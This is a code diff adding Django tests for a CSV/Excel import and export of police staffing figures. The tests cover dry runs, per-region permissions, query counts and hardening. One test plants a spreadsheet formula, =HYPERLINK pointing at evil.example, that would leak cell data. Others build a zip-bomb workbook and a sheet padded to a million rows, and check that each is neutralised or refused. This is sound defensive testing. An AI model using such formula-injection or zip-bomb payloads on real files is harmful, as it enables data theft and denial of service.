@@ -3,6 +3,7 @@ spreadsheet after a dry run (rows to create, update, leave; errors per row and c
 exported and imported back; the women's share against the plan's target; partners get no small count."""
 
 import csv
+import datetime
 import io
 from decimal import Decimal
 
@@ -76,7 +77,7 @@ def test_the_dry_run_says_what_each_row_would_do_and_writes_nothing(head, existi
     assert ("Source", "Kosovo Police, annual staffing letter", "Letter of 2025") in rows[2].changes
     assert set(rows[4].errors) == {"women"}
     assert set(rows[5].errors) == {"region"}
-    assert "Row 3 has the same" in rows[6].errors[""][0]
+    assert "Row 3 has the same values" in rows[6].errors[""][0]
     assert not plan.applicable
     page = response.content.decode()
     assert "Download the refused rows" in page
@@ -93,7 +94,7 @@ def test_the_refused_rows_download_with_their_errors(head, existing):
     rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
     assert rows[0] == ["row", "year", "region", "rank", "level", "women", "men", "source", "errors"]
     assert len(rows) == 2
-    assert rows[1][:7] == ["3", "2024", "MIT", "general", "none", "-1", "10"]
+    assert rows[1][:7] == ["3", "2024", "MIT", "general", "none", "'-1", "10"]  # made harmless
     assert rows[1][-1].startswith("women: ")
 
 
@@ -322,6 +323,165 @@ def test_the_list_filters_and_costs_the_same_queries_at_two_sizes(head, existing
         figure_made(head, year=year)
     assert count() == few
     rows = client.get(LIST, {"year": 2015}).context["rows"]
-    assert [row.year for row, _cells in rows] == [2015]
+    assert [row.year for row, _cells, _writable in rows] == [2015]
     rows = client.get(LIST, {"region": Region.objects.get(code="MIT").pk}).context["rows"]
     assert rows == []
+
+
+# --- What a second review found ---------------------------------------------------------------------
+def _plan_of(client, *lines: str, name: str = "figures.csv"):
+    return _dry_run(client, _csv(*lines, name=name)).context["plan"]
+
+
+def test_blank_rows_between_rows_lose_none_of_them(head, settings):
+    settings.IMPORT_MAX_ROWS = 4  # four rows, each followed by a blank line: all four are read
+    lines = "".join(f"{year},GJI,officer,none,1,1,\n\n" for year in range(2020, 2024))
+    upload = SimpleUploadedFile("f.csv", f"{HEADER}\n{lines}".encode())
+    plan = _dry_run(client_for(head), upload).context["plan"]
+    assert [row.line for row in plan.rows] == [2, 4, 6, 8]
+
+
+def test_a_quoted_cell_far_into_the_file_comes_back_as_it_was(head):
+    for year in range(2000, 2020):
+        for rank in ("officer", "sergeant", "lieutenant", "captain", "major", "colonel"):
+            figure_made(head, year=year, rank=rank, level="none", source="Annual letter of the Kosovo Police")
+    figure_made(head, year=2024, rank="general", level="senior", source='Letter "KP-12" of May')
+    client = client_for(head)
+    exported = client.get(reverse("public_safety:policestafffigure_export")).content
+    assert len(exported) > 4096  # the quote is past what a sniffer reads
+    plan = _dry_run(client, SimpleUploadedFile("same.csv", exported)).context["plan"]
+    assert {row.action for row in plan.rows} == {"unchanged"}
+
+
+def test_a_formula_is_exported_harmless_and_imported_back_as_it_was(head):
+    figure_made(head, source='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    client = client_for(head)
+    exported = client.get(reverse("public_safety:policestafffigure_export")).content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in exported
+    plan = _dry_run(client, SimpleUploadedFile("same.csv", exported.encode())).context["plan"]
+    assert [row.action for row in plan.rows] == ["unchanged"]
+    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,=1+1,2,"))
+    errors = client.get(response.context["errors_url"]).content.decode("utf-8-sig")
+    assert ",'=1+1," in errors
+
+
+def test_a_long_file_name_is_kept_short_in_the_history(head, existing):
+    client = client_for(head)
+    name = "Kosovo Police - staffing by rank, region and management level 2024 (final, corrected v3, signed).csv"
+    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,35,210,", name=name))
+    assert _apply(client, response).status_code == 302
+    reason = existing.history.first().history_change_reason
+    assert reason.startswith("import of Kosovo Police")
+    assert len(reason) <= 100
+
+
+def test_the_same_key_written_twice_is_refused_by_its_value(head):
+    plan = _plan_of(client_for(head), "2024,GJI,officer,none,1,1,", "02024,GJI,officer,none,2,2,")
+    assert [row.action for row in plan.rows] == ["create", "error"]
+
+
+def test_a_number_with_a_thousands_separator_is_refused(head, existing):
+    (row,) = _plan_of(client_for(head), "2024,GJI,sergeant,first_line,31,1.000,").rows
+    assert row.action == "error"
+    assert "digits alone" in row.errors["men"][0]
+
+
+def test_a_regional_supervisor_keeps_their_regions_figures_only(public_safety_actors, head):
+    supervisor = public_safety_actors["supervisor"]  # Gjilan's
+    theirs = figure_made(head, region=Region.objects.get(code="PRI"))
+    client = client_for(supervisor)
+    assert client.get(reverse("public_safety:policestafffigure_edit", args=[theirs.pk])).status_code == 404
+    assert client.post(reverse("public_safety:policestafffigure_delete", args=[theirs.pk])).status_code == 404
+    rows = client.get(LIST).context["rows"]
+    assert [writable for row, _cells, writable in rows if row.pk == theirs.pk] == [False]
+    plan = _plan_of(client, "2024,GJI,officer,none,1,9,", "2024,PRI,officer,none,1,9,")
+    assert [row.action for row in plan.rows] == ["create", "error"]
+    assert plan.rows[1].errors == {"region": ["You keep the figures of your own region only."]}
+    theirs.refresh_from_db()
+    assert theirs.women == 31
+
+
+def test_staff_of_another_department_read_no_figures_in_the_api(head, public_safety_actors, administrator):
+    figure_made(head)
+    outsider = bearer(staff_key(public_safety_actors["other_department_monitor"], administrator))
+    response = outsider.get("/api/v1/women-in-police/")
+    assert response.status_code in (200, 403)
+    assert response.status_code == 403 or response.json()["results"] == []
+    insider = bearer(staff_key(public_safety_actors["monitor"], administrator))
+    assert len(insider.get("/api/v1/women-in-police/").json()["results"]) == 1
+
+
+def _xlsx_bytes(**members: bytes) -> bytes:
+    import zipfile
+
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
+    return data.getvalue()
+
+
+def test_a_zip_bomb_or_a_broken_workbook_is_refused_without_an_error_page(head, settings):
+    settings.IMPORT_MAX_BYTES = 10_000
+    client = client_for(head)
+    bomb = _xlsx_bytes(xl__sharedStrings_dot_xml=b" " * 500_000)
+    response = client.post(IMPORT, {"file": SimpleUploadedFile("bomb.xlsx", bomb)})
+    assert response.status_code == 200
+    assert "unpacks to too much data" in response.content.decode()
+    book = Workbook()
+    book.active.append(HEADER.split(","))
+    data = io.BytesIO()
+    book.save(data)
+    import zipfile
+
+    broken = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data.getvalue())) as source, zipfile.ZipFile(broken, "w") as target:
+        for member in source.infolist():
+            content = source.read(member.filename)
+            target.writestr(
+                member, b"<worksheet><sheetData><row" if member.filename.endswith("sheet1.xml") else content
+            )
+    response = client.post(IMPORT, {"file": SimpleUploadedFile("broken.xlsx", broken.getvalue())})
+    assert response.status_code == 200
+    assert "could not be read as an Excel workbook" in response.content.decode()
+
+
+def test_a_sheet_padded_to_a_million_rows_is_refused_quickly(head):
+    book = Workbook()
+    sheet = book.active
+    sheet.append(HEADER.split(","))
+    sheet.append([2024, "GJI", "officer", "none", 1, 1, ""])
+    sheet.cell(row=1_048_576, column=1, value="")  # an empty cell at the bottom
+    sheet.cell(row=1_048_575, column=2, value=" ")
+    data = io.BytesIO()
+    book.save(data)
+    response = client_for(head).post(IMPORT, {"file": SimpleUploadedFile("padded.xlsx", data.getvalue())})
+    assert response.status_code == 200
+    assert "empty rows in a row" in response.content.decode()
+
+
+def test_a_dry_run_costs_the_same_queries_for_ten_rows_and_forty(head):
+    client = client_for(head)
+
+    def queries(n: int) -> int:
+        lines = [f"{2000 + i},GJI,officer,none,{i},1," for i in range(n)]
+        with CaptureQueriesContext(connection) as captured:
+            _dry_run(client, _csv(*lines))
+        return len(captured)
+
+    for year in range(2000, 2040):
+        figure_made(head, year=year, rank="officer", level="none")
+    assert queries(10) == queries(40)
+
+
+def test_an_old_dry_run_cannot_be_applied(head, existing, settings):
+    from django.utils import timezone
+
+    client = client_for(head)
+    response = _dry_run(client, _csv("2024,GJI,sergeant,first_line,35,210,"))
+    PendingImport.objects.update(
+        created_at=timezone.now() - datetime.timedelta(hours=settings.IMPORT_PENDING_HOURS + 1)
+    )
+    assert _apply(client, response).status_code == 404
+    existing.refresh_from_db()
+    assert existing.women == 31
